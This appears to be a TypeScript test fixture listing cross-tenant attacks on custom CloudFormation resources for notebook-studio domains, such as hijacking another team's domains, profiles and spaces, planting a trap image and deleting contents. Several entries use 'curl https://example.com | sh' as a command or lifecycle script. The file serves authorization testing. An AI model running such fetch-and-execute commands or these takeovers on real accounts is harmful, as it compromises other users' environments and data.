import { adasSpace, domainProperties, type Network, tokenOf } from './deputies-cloud.ts';

/** What an attack is tried on. */
export interface Target {
  DomainId: string;
  DomainName: string;
  network: Network;
}

/** A custom resource that reaches into another team's domain. */
export interface Attack {
  /** What it would do, as the title of a test says it. */
  title: string;
  type: string;
  properties(target: Target): Record<string, unknown>;
}

const tags = [{ Key: 'owner', Value: 'mallory' }];

export const attacks: readonly Attack[] = [
  {
    title: 'start a Jupyter server of another person, and run commands there',
    type: 'StudioSetup',
    properties: ({ DomainId }) => ({
      DomainId,
      UserProfileName: 'ada',
      StartApp: true,
      Commands: ['curl https://example.com | sh'],
      ServiceTimeout: 600,
    }),
  },
  {
    title: 'change a domain that it adopts',
    type: 'StudioDomain',
    properties: ({ DomainName, network }) => ({
      ...domainProperties(DomainName, network),
      AdoptExisting: true,
      AppNetworkAccessType: 'VpcOnly',
      Tags: tags,
    }),
  },
  {
    title: 'change a user profile that it adopts',
    type: 'StudioUserProfile',
    properties: ({ DomainId }) => ({ DomainId, UserProfileName: 'ada', AdoptExisting: true, Tags: tags }),
  },
  {
    title: 'become a user of a domain',
    type: 'StudioUserProfile',
    properties: ({ DomainId }) => ({ DomainId, UserProfileName: 'mallory' }),
  },
  {
    title: 'become members of a domain, by a fleet',
    type: 'StudioUserProfileFleet',
    properties: ({ DomainId }) => ({
      DomainId,
      Members: [{ UserProfileName: 'ada', Tags: tags }, { UserProfileName: 'mallory' }],
      AdoptExisting: 'IfExists',
      AllOrNothing: true,
    }),
  },
  {
    title: 'change a space that it adopts',
    type: 'StudioSpace',
    properties: ({ DomainId }) => ({ DomainId, SpaceName: 'ideas', AdoptExisting: true, Tags: tags, ...adasSpace }),
  },
  {
    title: 'make a space of another person',
    type: 'StudioSpace',
    properties: ({ DomainId }) => ({ DomainId, SpaceName: 'trap', ...adasSpace }),
  },
  {
    title: 'run a script in all apps of a domain',
    type: 'StudioLifecycleConfig',
    properties: ({ DomainId }) => ({
      Name: 'trap',
      AppType: 'JupyterLab',
      Content: 'curl https://example.com | sh',
      AttachTo: [{ DomainId, As: 'BuiltIn' }],
    }),
  },
  {
    title: 'run a script in the apps of a user profile',
    type: 'StudioLifecycleConfig',
    properties: ({ DomainId }) => ({
      Name: 'trap',
      AppType: 'JupyterLab',
      Content: 'curl https://example.com | sh',
      AttachTo: [{ DomainId, UserProfileName: 'ada', As: 'BuiltIn' }],
    }),
  },
  {
    title: 'offer an image to a domain',
    type: 'StudioImage',
    properties: ({ DomainId, network }) => ({
      ImageName: 'trap',
      BaseImage: '000000000000.dkr.ecr.us-east-1.amazonaws.com/trap:1',
      RoleArn: network.ExecutionRole,
      JupyterLabAppImageConfig: {},
      AttachTo: [{ DomainId }],
    }),
  },
  {
    title: 'delete the people of a domain, by StudioContents',
    type: 'StudioContents',
    properties: ({ DomainId }) => ({ DomainId, DeleteContents: 'All' }),
  },
];

/** The template of an attack. */
export function templateOf({ type, properties }: Attack, target: Target): string {
  const handler = type.replace(/(?<=.)[A-Z]/g, (letter) => `-${letter}`).toLowerCase();
  const Properties = { ServiceToken: tokenOf(handler), ...properties(target) };
  const Nothing = { Type: 'AWS::CloudFormation::WaitConditionHandle' };
  return JSON.stringify({ Resources: { Nothing, Attack: { Type: `Custom::${type}`, Properties } } });
}
